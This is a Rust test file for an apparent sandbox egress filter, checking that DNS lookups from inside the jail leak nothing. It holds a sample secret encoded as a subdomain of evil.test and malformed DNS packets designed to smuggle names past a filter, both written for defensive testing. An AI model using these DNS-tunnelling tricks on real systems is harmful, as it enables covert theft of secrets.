//! Names that carry something out when they are only looked up.

use std::net::{IpAddr, SocketAddr};

use super::{Inside, Jails, Suite, has, text};
use crate::world::agent::hex;
use crate::world::internet::MARK;

/// The stub inside a jail.
const STUB: (&str, &str) = ("127.0.0.1", "53");

/// Names that carry something out, and record types that could.
const LOOK_UPS: &[(&str, &str, u8)] = &[
    ("107 a secret below a name that is not allowed", "c2VjcmV0LWtleS1nb2VzLWhlcmU.evil.test", 1),
    ("107 the same, for a text", "c2VjcmV0LWtleS1nb2VzLWhlcmU.evil.test", 16),
    ("107 below an allowed name", "c2VjcmV0LWtleS1nb2VzLWhlcmU.allowed.test", 1),
    ("107 the other family", "evil.test", 28),
    ("107 who answers for a domain", "test", 2),
    ("107 all of a zone", "evil.test", 252),
    ("107 a text of an allowed name", "allowed.test", 16),
    ("107 how to connect to an allowed name", "allowed.test", 65),
    ("107 how to reach its service", "allowed.test", 64),
    ("107 everything of an allowed name", "allowed.test", 255),
    ("107 a pointer", "allowed.test", 12),
    ("107 a pointer to an address", "9.9.9.9.in-addr.arpa", 12),
];

/// Messages that are read in more than one way: everything behind the number of the message.
const MESSAGES: &[(&str, &[u8])] = &[
    ("107 a label with a dot in it", b"\x01\0\0\x01\0\0\0\0\0\0\x0callowed.test\0\0\x01\0\x01"),
    ("107 a NUL in a label", b"\x01\0\0\x01\0\0\0\0\0\0\x0aevil\0allow\x04test\0\0\x01\0\x01"),
    ("107 another class", b"\x01\0\0\x01\0\0\0\0\0\0\x07allowed\x04test\0\0\x01\0\x03"),
    ("107 two questions", b"\x01\0\0\x02\0\0\0\0\0\0\x07allowed\x04test\0\0\x01\0\x01\x04evil\x04test\0\0\x01\0\x01"),
    ("107 a name that points to itself", b"\x01\0\0\x01\0\0\0\0\0\0\x01a\xc0\x0c\0\x01\0\x01"),
    ("107 an update", b"\x29\0\0\x01\0\0\0\0\0\0\x07allowed\x04test\0\0\x06\0\x01"),
    ("107 a notice", b"\x21\0\0\x01\0\0\0\0\0\0\x07allowed\x04test\0\0\x06\0\x01"),
];

pub(crate) fn query(name: &str, kind: u8) -> Vec<u8> {
    let mut bytes = vec![1, 2, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        bytes.push(u8::try_from(label.len()).unwrap());
        bytes.extend(label.bytes());
    }
    bytes.extend([0, 0, kind, 0, 1]);
    bytes
}

fn ask(jail: &dyn Inside, query: &[u8]) -> Vec<u8> {
    jail.agent().ask(&["udp", STUB.0, STUB.1, &hex(query), "2000"]).unwrap()
}

/// The address that the jail's own name server gives.
pub(super) fn looked_up(jail: &dyn Inside, name: &str) -> IpAddr {
    let answer = ask(jail, &query(name, 1));
    let octets: [u8; 4] = answer[answer.len() - 4..].try_into().unwrap();
    assert_eq!(answer[7], 1, "{name} has no address inside");
    octets.into()
}

impl Suite<'_> {
    /// Where a name is in some jail.
    pub(super) fn inside(&self, jail: &dyn Inside, name: &str, port: u16) -> SocketAddr {
        SocketAddr::new(looked_up(jail, name), port)
    }
}

pub(super) fn run(suite: &Suite<'_>) {
    for (id, name, kind) in LOOK_UPS {
        suite.begin(id);
        let answer = ask(suite.jail, &query(name, *kind));
        suite.expect(answer[7] == 0, || format!("{id} has an answer"));
        suite.nothing_left(id);
        // The control: the same look-up on the host is a packet.
        let asked = hex(&query(name, *kind));
        suite.only_allowed(id);
        // Whether there is an answer does not matter: the name has left.
        let _answer = suite.world.outside.ask(&["udp", "8.8.8.8", "53", &asked, "2000"]);
        suite.expect(suite.world.packets.take().names == [*name], || format!("{id}, its control"));
    }
    for (id, message) in MESSAGES {
        suite.begin(id);
        let message = [b"\x01\x02", *message].concat();
        // There may be no answer at all.
        let said = suite.jail.agent().ask(&["udp", STUB.0, STUB.1, &hex(&message), "300"]);
        suite.expect(said.is_err() || said.is_ok_and(|answer| answer[7] == 0), || format!("{id} has an answer"));
        suite.nothing_left(id);
    }
    // The twin: an allowed name has an address, and looking it up is no packet either. Over TCP it is the same stub.
    looked_up(suite.jail, "allowed.test");
    let over_tcp = |name: &str| {
        let query = query(name, 1);
        let length = u16::try_from(query.len()).unwrap().to_be_bytes();
        suite.jail.agent().talk("127.0.0.1:53".parse().unwrap(), &[&length, query.as_slice()].concat())
    };
    assert_eq!((over_tcp("allowed.test")[9], over_tcp(LOOK_UPS[0].1)[9]), (1, 0));
    suite.nothing_left("the stub");
}

/// Names below an allowed wildcard are a message to whoever answers for the domain: there is an end of them.
pub(super) fn on_random_names<J: Jails>(suite: &Suite<'_>, jails: &J) {
    /// What the room lets out in a day, as docs/egress-internals.md says.
    const MOST: usize = 500;
    let id = "108 random names below an allowed wildcard";
    suite.begin(id);
    let jail = jails.start("builder", "allow = [\"*.wild.test:80\"]");
    suite.world.packets.forget();
    let mut state = 0x9e37_79b9_7f4a_7c15_u64;
    let mut name = |length: usize, letters: &[u8]| -> String {
        let mut letter = || {
            state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            char::from(letters[usize::try_from(state >> 40).unwrap() % letters.len()])
        };
        (0..length).map(|_| letter()).chain(".wild.test".chars()).collect()
    };
    // What looks random by itself does not leave even once.
    let answer = get(&*jail, &name(40, b"abcdefghijklmnopqrstuvwxyz234567")).recv().unwrap().unwrap();
    suite.expect(text(&answer).starts_with("HTTP/1.1 403"), || format!("{id}: {}", text(&answer)));
    suite.nothing_left(id);
    let names: Vec<String> = (0..MOST + 20).map(|_| name(20, b"abcdefghijklmnopqrstuvwxyz")).collect();
    let mut answers = Vec::new();
    for some in names.chunks(16) {
        let begun: Vec<_> = some.iter().map(|name| get(&*jail, name)).collect();
        answers.extend(begun.into_iter().map(|answer| answer.recv().unwrap().unwrap()));
    }
    let passed = answers.iter().filter(|answer| has(answer, MARK)).count();
    let refused = answers.iter().filter(|answer| text(answer).starts_with("HTTP/1.1 429")).count();
    let mut asked = suite.world.packets.take().names;
    asked.sort_unstable();
    asked.dedup();
    let counts = (passed, refused, asked.len());
    // That some pass is the twin.
    suite.expect(counts == (MOST, 20, MOST), || format!("{id}: {counts:?}"));
    for name in names.iter().take(3) {
        let _answer = suite.world.outside.ask(&["udp", "8.8.8.8", "53", &hex(&query(name, 1)), "2000"]);
    }
    suite.expect(suite.world.packets.take().names == names[..3], || format!("{id}, its control"));
}

fn get(jail: &dyn Inside, name: &str) -> std::sync::mpsc::Receiver<crate::world::agent::Answer> {
    let request = format!("GET http://{name}/public/x HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n");
    jail.agent().begin_to_talk(SocketAddr::new([127, 0, 0, 1].into(), super::PROXY), request.as_bytes())
}
